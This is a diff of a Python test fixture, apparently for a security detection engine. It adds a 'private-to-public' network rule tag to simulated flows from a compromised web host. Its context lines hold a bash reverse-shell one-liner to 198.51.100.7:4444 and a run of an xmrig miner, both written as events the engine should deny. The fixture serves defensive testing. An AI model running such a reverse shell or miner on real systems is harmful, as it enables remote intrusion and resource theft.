@@ -154,9 +154,20 @@ def break_in() -> list[Example]:
         denied("web-2", "auditd", run("/tmp/xmrig", "--url", "pool"), "process.denied_path", "process.denied_tool"),  # noqa: S108
         denied("web-2", "log", line("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", 6000), "log.reverse_shell"),
         denied(
-            "web-2", "zeek", flow("web-2", "198.51.100.7", 4444, 9_000), "network.denied_port", "network.denied_range"
+            "web-2",
+            "zeek",
+            flow("web-2", "198.51.100.7", 4444, 9_000),
+            "network.denied_port",
+            "network.denied_range",
+            "network.private_to_public",
         ),
-        denied("web-2", "zeek", flow("web-2", "203.0.113.80", 445, 120_000), "network.denied_port"),
+        denied(
+            "web-2",
+            "zeek",
+            flow("web-2", "203.0.113.80", 445, 120_000),
+            "network.denied_port",
+            "network.private_to_public",
+        ),
         denied("db-1", "zeek", flow("db-1", "198.51.100.9", 443, 70_000), "network.denied_range", name="beacon"),
         denied(
             "db-1",
